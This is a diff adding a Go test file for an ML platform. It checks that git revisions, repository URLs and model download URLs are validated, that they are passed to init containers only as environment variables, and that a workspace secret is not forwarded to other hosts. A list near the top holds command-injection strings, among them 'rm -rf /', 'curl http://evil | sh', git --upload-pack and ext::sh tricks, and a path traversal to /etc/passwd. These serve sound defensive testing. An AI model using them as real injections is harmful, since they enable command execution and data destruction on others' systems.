@@ -0,0 +1,285 @@
+package mlapp
+
+import (
+	"archive/tar"
+	"bytes"
+	"compress/gzip"
+	"io/ioutil"
+	"math/rand"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	kuberlab "github.com/kuberlab/lib/pkg/kubernetes"
+	"k8s.io/api/core/v1"
+)
+
+var hostileInputs = []string{
+	`'; rm -rf / #`,
+	`master'; curl http://evil | sh; echo '`,
+	`$(reboot)`,
+	"`id`",
+	`" && id && "`,
+	`--upload-pack=touch /tmp/pwned`,
+	`-oProxyCommand=sh`,
+	"master\nid",
+	`master\'`,
+	`ext::sh -c touch% /tmp/pwned`,
+	`../../etc/passwd`,
+	`refs/heads/@{-1}`,
+	`a b`,
+	`${IFS}id`,
+	`master;id`,
+	`]}, "x": ["`,
+}
+
+func gitTaskConfig(repo string) *BoardConfig {
+	return &BoardConfig{
+		Config: Config{
+			Kind:        KindMlApp,
+			Meta:        Meta{Name: "project"},
+			Workspace:   "ws",
+			WorkspaceID: "1",
+			ProjectID:   "2",
+		},
+		VolumesData: []Volume{
+			{
+				Name: "src",
+				VolumeSource: VolumeSource{
+					GitRepo: &GitRepoVolumeSource{
+						GitRepoVolumeSource: v1.GitRepoVolumeSource{Repository: repo},
+					},
+				},
+			},
+		},
+	}
+}
+
+func gitTask(revision string) Task {
+	return Task{
+		Meta:         Meta{Name: "train"},
+		GitRevisions: []TaskRevision{{VolumeName: "src", Revision: revision}},
+		Resources: []TaskResource{
+			{
+				Meta: Meta{Name: "worker"},
+				Resource: Resource{
+					Replicas: 1,
+					Images:   Images{CPU: "image"},
+					Command:  "python",
+					Volumes:  []VolumeMount{{Name: "src"}},
+				},
+			},
+		},
+	}
+}
+
+// checkRendered generates task pod and verifies that parameters were not
+// interpolated into the init container command.
+func checkRendered(t *testing.T, repo, revision string) {
+	specs, err := gitTaskConfig(repo).GenerateTaskResources(gitTask(revision), "1")
+	if err != nil {
+		t.Fatalf("Failed generate task for repo=%q revision=%q: %v", repo, revision, err)
+	}
+	pod := specs[0].Resource.Object.(*kuberlab.WorkerSet).PodTemplate
+	Assert(1, len(pod.Spec.InitContainers), t)
+	init := pod.Spec.InitContainers[0]
+	Assert([]string{"/bin/sh", "-c", gitCloneScript}, init.Command, t)
+	env := map[string]string{}
+	for _, e := range init.Env {
+		env[e.Name] = e.Value
+	}
+	Assert(repo, env["REPO_URL"], t)
+	Assert(revision, env["REPO_REVISION"], t)
+}
+
+func TestInitStepsValidInputs(t *testing.T) {
+	repos := []string{
+		"https://github.com/kuberlab/lib",
+		"https://github.com/kuberlab/lib.git",
+		"git@github.com:kuberlab/lib.git",
+		"ssh://git@gitlab.example.com:2222/group/lib.git",
+	}
+	revisions := []string{"", "master", "feature/new-thing", "v1.2.3", "0e3a2d1", "refs/tags/v1"}
+	for _, repo := range repos {
+		for _, rev := range revisions {
+			checkRendered(t, repo, rev)
+		}
+	}
+}
+
+func TestInitStepsRejectHostileRevisions(t *testing.T) {
+	for _, rev := range hostileInputs {
+		if err := ValidateGitRevision(rev); err == nil {
+			t.Errorf("Revision %q must be rejected", rev)
+		}
+		_, err := gitTaskConfig("https://github.com/kuberlab/lib").GenerateTaskResources(gitTask(rev), "1")
+		if err == nil {
+			t.Errorf("Task with revision %q must not be generated", rev)
+		}
+	}
+}
+
+func TestInitStepsRejectHostileURLs(t *testing.T) {
+	const unsafe = " '\"`$\n\\{}<>|"
+	for _, in := range hostileInputs {
+		if err := ValidateGitURL(in); err == nil {
+			t.Errorf("Repository %q must be rejected", in)
+		}
+		if !strings.ContainsAny(in, unsafe) {
+			continue
+		}
+		for _, repo := range []string{"https://github.com/" + in, "git@github.com:" + in} {
+			if err := ValidateGitURL(repo); err == nil {
+				t.Errorf("Repository %q must be rejected", repo)
+			}
+		}
+		if err := ValidateDownloadURL("https://example.com/" + in); err == nil {
+			t.Errorf("Download URL with %q must be rejected", in)
+		}
+	}
+	for _, repo := range []string{"file:///etc", "ext::sh -c id", "https://", "fd::17"} {
+		if err := ValidateGitURL(repo); err == nil {
+			t.Errorf("Repository %q must be rejected", repo)
+		}
+	}
+}
+
+func TestInitStepsRandomInputs(t *testing.T) {
+	const alphabet = "abcAZ09-_./:@~^?*[]{}\\'\"`$;&|<>()!# \n\t"
+	rnd := rand.New(rand.NewSource(42))
+	random := func() string {
+		b := make([]byte, 1+rnd.Intn(24))
+		for i := range b {
+			b[i] = alphabet[rnd.Intn(len(alphabet))]
+		}
+		return string(b)
+	}
+	for i := 0; i < 2000; i++ {
+		rev := random()
+		repo := "https://github.com/kuberlab/" + random()
+		if ValidateGitRevision(rev) != nil || ValidateGitURL(repo) != nil {
+			continue
+		}
+		// Whatever passed validation must be rendered verbatim into env only.
+		checkRendered(t, repo, rev)
+	}
+}
+
+func TestGetGitRepoName(t *testing.T) {
+	for repo, name := range map[string]string{
+		"https://github.com/kuberlab/lib":        "lib",
+		"https://github.com/kuberlab/lib.git":    "lib",
+		"https://gitlab.com/group/subgroup/repo": "repo",
+		"git@gitlab.com:group/subgroup/repo.git": "repo",
+		"https://git.example.com/org/repo/sub":   "repo",
+		"https://git.example.com/repo.git/":      "repo",
+	} {
+		Assert(name, getGitRepoName(repo), t)
+	}
+	// Directory of the clone and of the commit match for nested groups.
+	c := gitTaskConfig("https://gitlab.com/group/subgroup/repo")
+	step, err := gitCloneStep("clone", c.VolumesData[0].GitRepo.Repository, "", "/gitdata/0", nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	Assert("/gitdata/0/repo", step.Params[2].Value, t)
+}
+
+func TestModelDownloadStep(t *testing.T) {
+	c := gitTaskConfig("https://github.com/kuberlab/lib")
+	c.DealerAPI = "https://dealer.example.com/api/v0.2"
+	model := &ModelSource{
+		Workspace:   "ws",
+		Model:       "m",
+		Version:     "1.0.0",
+		DownloadURL: "https://dealer.example.com/api/v0.2/workspace/ws/mlmodel/m/versions/1.0.0/download",
+		Checksum:    "sha256:" + strings.Repeat("Ab", 32),
+	}
+	step, err := c.modelDownloadStep("model", model, "/model/0", nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	init := step.Container()
+	Assert([]string{"/bin/sh", "-c", modelDownloadScript}, init.Command, t)
+	env := map[string]v1.EnvVar{}
+	for _, e := range init.Env {
+		env[e.Name] = e
+	}
+	Assert(strings.Repeat("ab", 32), env["MODEL_SHA256"].Value, t)
+	Assert(model.DownloadURL, env["MODEL_URL"].Value, t)
+	Assert(c.workspaceSecretName(), env["WORKSPACE_SECRET"].ValueFrom.SecretKeyRef.Name, t)
+
+	// Secret is not given for other hosts.
+	for _, u := range []string{"https://models.example.com/m.tar.gz", "http://dealer.example.com/m.tar.gz"} {
+		model.DownloadURL = u
+		step, err = c.modelDownloadStep("model", model, "/model/0", nil)
+		if err != nil {
+			t.Fatal(err)
+		}
+		for _, e := range step.Container().Env {
+			if e.Name == "WORKSPACE_SECRET" {
+				t.Fatalf("Workspace secret is given for %v", u)
+			}
+		}
+	}
+
+	for _, checksum := range []string{"md5:abc", "sha256:xyz", strings.Repeat("a", 63)} {
+		model.Checksum = checksum
+		if _, err := c.modelDownloadStep("model", model, "/model/0", nil); err == nil {
+			t.Errorf("Checksum %q must be rejected", checksum)
+		}
+	}
+}
+
+func TestModelDownloadScriptRedirect(t *testing.T) {
+	if _, err := exec.LookPath("curl"); err != nil {
+		t.Skip("curl is not available")
+	}
+	archive := &bytes.Buffer{}
+	gz := gzip.NewWriter(archive)
+	tw := tar.NewWriter(gz)
+	tw.WriteHeader(&tar.Header{Name: "model.pb", Mode: 0644, Size: 5})
+	tw.Write([]byte("model"))
+	tw.Close()
+	gz.Close()
+
+	storage := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if r.Header.Get("X-Workspace-Secret") != "" {
+			t.Errorf("Secret is sent to storage")
+		}
+		http.ServeContent(w, r, "model.tar.gz", time.Time{}, bytes.NewReader(archive.Bytes()))
+	}))
+	defer storage.Close()
+	dealer := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if r.Header.Get("X-Workspace-Secret") != "secret" {
+			w.WriteHeader(http.StatusUnauthorized)
+			return
+		}
+		http.Redirect(w, r, storage.URL+"/model.tar.gz", http.StatusFound)
+	}))
+	defer dealer.Close()
+
+	dir := t.TempDir()
+	cmd := exec.Command("/bin/sh", "-c", modelDownloadScript)
+	cmd.Env = []string{
+		"PATH=" + os.Getenv("PATH"),
+		"MODEL_DIR=" + dir,
+		"MODEL_URL=" + dealer.URL + "/download",
+		"MODEL_RETRIES=1",
+		"WORKSPACE_NAME=ws",
+		"WORKSPACE_SECRET=secret",
+	}
+	if out, err := cmd.CombinedOutput(); err != nil {
+		t.Fatalf("Download failed: %v: %s", err, out)
+	}
+	data, err := ioutil.ReadFile(filepath.Join(dir, "model.pb"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	Assert("model", string(data), t)
+}